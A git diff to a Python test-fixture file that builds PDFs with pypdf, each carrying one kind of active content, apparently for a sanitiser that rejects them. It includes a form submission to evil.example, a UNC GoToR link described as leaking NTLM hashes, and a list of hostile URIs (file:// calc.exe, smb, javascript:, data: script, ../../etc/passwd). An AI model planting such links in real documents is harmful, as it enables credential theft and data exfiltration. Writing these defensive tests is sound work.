@@ -1,15 +1,19 @@
 """Real PDF files for the tests, written with pypdf: a clean one and one per kind of active content."""
 
 import io
+import zlib
 from collections.abc import Callable
 
 from pypdf import PdfWriter
 from pypdf.generic import (
     ArrayObject,
+    BooleanObject,
     DecodedStreamObject,
     DictionaryObject,
     FloatObject,
     NameObject,
+    NumberObject,
+    PdfObject,
     TextStringObject,
 )
 
@@ -214,6 +218,125 @@ def pdf_with_restrictions_and_script() -> bytes:
     return _bytes(writer)
 
 
+def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
+    return DictionaryObject(
+        {_name("/S"): _name(kind), **{_name(f"/{key}"): value for key, value in entries.items()}}
+    )
+
+
+def _link(action: DictionaryObject) -> bytes:
+    """A link annotation on page 1 whose /A is ``action``."""
+    writer = _writer()
+    _annotation(writer, {"/A": action})
+    return _bytes(writer)
+
+
+def pdf_with_link(uri: str) -> bytes:
+    """A link opening ``uri`` (/S /URI): accepted for http(s), refused for anything else."""
+    return _link(_action("/URI", URI=TextStringObject(uri)))
+
+
+def pdf_with_uri_base(base: str) -> bytes:
+    """The catalog's /URI << /Base >> (what relative addresses resolve against) and a web link."""
+    writer = _writer()
+    writer._root_object[_name("/URI")] = DictionaryObject({_name("/Base"): TextStringObject(base)})
+    _annotation(writer, {"/A": _action("/URI", URI=TextStringObject("https://labo.example.lu/"))})
+    return _bytes(writer)
+
+
+def pdf_with_submit_form() -> bytes:
+    """A button sending the form's fields to a web address (/S /SubmitForm)."""
+    url = DictionaryObject(
+        {_name("/FS"): _name("/URL"), _name("/F"): TextStringObject("https://evil.example/")}
+    )
+    return _link(_action("/SubmitForm", F=url))
+
+
+def pdf_with_import_data() -> bytes:
+    """Form data read from a file next to the document (/S /ImportData)."""
+    return _link(_action("/ImportData", F=TextStringObject("donnees.fdf")))
+
+
+def pdf_with_remote_goto_unc() -> bytes:
+    """A link to a PDF on an SMB share (/S /GoToR, UNC path): Windows readers send the NTLM hash."""
+    return _link(
+        _action(
+            "/GoToR",
+            F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
+            D=ArrayObject([NumberObject(0), _name("/Fit")]),
+        )
+    )
+
+
+def pdf_with_rendition() -> bytes:
+    """A link playing a media clip (/S /Rendition) through a screen annotation's player."""
+    return _link(_action("/Rendition", OP=NumberObject(0)))
+
+
+def pdf_with_sound() -> bytes:
+    """A link playing a sound stream (/S /Sound)."""
+    writer = _writer()
+    sound = DecodedStreamObject()
+    sound.set_data(b"\x00" * 16)
+    sound[_name("/Type")] = _name("/Sound")
+    sound[_name("/R")] = NumberObject(8000)
+    _annotation(writer, {"/A": _action("/Sound", Sound=writer._add_object(sound))})
+    return _bytes(writer)
+
+
+def pdf_with_movie() -> bytes:
+    """A link playing a movie file (/S /Movie)."""
+    return _link(_action("/Movie", T=TextStringObject("film")))
+
+
+def pdf_with_hide() -> bytes:
+    """A link hiding an annotation on a click (/S /Hide): what is read changes."""
+    return _link(_action("/Hide", T=TextStringObject("resultat"), H=BooleanObject(True)))
+
+
+def pdf_with_set_ocg_state() -> bytes:
+    """A link switching optional content (layers) off on a click (/S /SetOCGState)."""
+    return _link(_action("/SetOCGState", State=ArrayObject([_name("/OFF")])))
+
+
+def pdf_with_objects(count: int) -> bytes:
+    """A clean PDF with ``count`` extra small objects (arrays), unreachable but in the xref table."""
+    writer = _writer()
+    for number in range(count):
+        writer._add_object(ArrayObject([NumberObject(number), NumberObject(1)]))
+    return _bytes(writer)
+
+
+def pdf_with_xref_stream_entries(count: int) -> bytes:
+    """A catalog, its pages and a compressed cross-reference stream of ``count`` entries, all of
+    them pointing at the pages object: a few hundred bytes declaring ``count`` objects (pypdf
+    writes no cross-reference streams, so the bytes are written by hand)."""
+    head = b"%PDF-1.7\n"
+    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+    pages = b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
+    at_catalog, at_pages = len(head), len(head) + len(catalog)
+    xref_at = at_pages + len(pages)
+    rows = b"\x00\x00\x00\x00\xff" + b"\x01" + at_catalog.to_bytes(3, "big") + b"\x00"
+    rows += (b"\x01" + at_pages.to_bytes(3, "big") + b"\x00") * (count - 2)
+    data = zlib.compress(rows, 9)
+    xref = (
+        b"3 0 obj\n<< /Type /XRef /Size %d /W [1 3 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
+        b"stream\n" % (count, len(data)) + data + b"\nendstream\nendobj\n"
+    )
+    return head + catalog + pages + xref + b"startxref\n%d\n%%%%EOF\n" % xref_at
+
+
+# Addresses a /URI link may not open (a reader hands them to the system, or runs them).
+NON_WEB_ADDRESSES = {
+    "file": "file:///C:/Windows/System32/calc.exe",
+    "smb": "smb://evil.example/share/x.pdf",
+    "unc": "\\\\evil.example\\share\\x.pdf",
+    "javascript": "javascript:app.alert(1)",
+    "data": "data:text/html,<script>alert(1)</script>",
+    "relative": "../../etc/passwd",
+    "scheme-relative": "//evil.example/share/x.pdf",  # a UNC path to Windows readers
+}
+
 HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "open-action-javascript": (pdf_with_open_action_javascript, "JavaScript, action à l'ouverture"),
     "open-action-uri": (pdf_with_open_action_uri, "action à l'ouverture (/OpenAction)"),
@@ -228,4 +351,17 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "file-attachment": (pdf_with_file_attachment_annotation, "(fichier incorporé (/EmbeddedFile))"),
     "unreachable-script": (pdf_with_unreachable_script, "(JavaScript)"),
     "restrictions-and-script": (pdf_with_restrictions_and_script, "JavaScript, action à l'ouverture"),
+    "submit-form": (pdf_with_submit_form, "(envoi de formulaire (/SubmitForm))"),
+    "import-data": (pdf_with_import_data, "(import de données (/ImportData))"),
+    "remote-goto-unc": (pdf_with_remote_goto_unc, "(ouverture d'un autre fichier (/GoToR))"),
+    "rendition": (pdf_with_rendition, "(son ou vidéo (/Sound, /Movie, /Rendition))"),
+    "sound": (pdf_with_sound, "(son ou vidéo (/Sound, /Movie, /Rendition))"),
+    "movie": (pdf_with_movie, "(son ou vidéo (/Sound, /Movie, /Rendition))"),
+    "hide": (pdf_with_hide, "(affichage modifié par une action (/Hide, /SetOCGState))"),
+    "set-ocg-state": (pdf_with_set_ocg_state, "(affichage modifié par une action (/Hide, /SetOCGState))"),
+    **{
+        f"uri-{label}": (lambda uri=uri: pdf_with_link(uri), "(lien vers une adresse non web (/URI))")  # type: ignore[misc]
+        for label, uri in NON_WEB_ADDRESSES.items()
+    },
+    "uri-base-file": (lambda: pdf_with_uri_base("file:///C:/"), "(lien vers une adresse non web (/URI))"),
 }
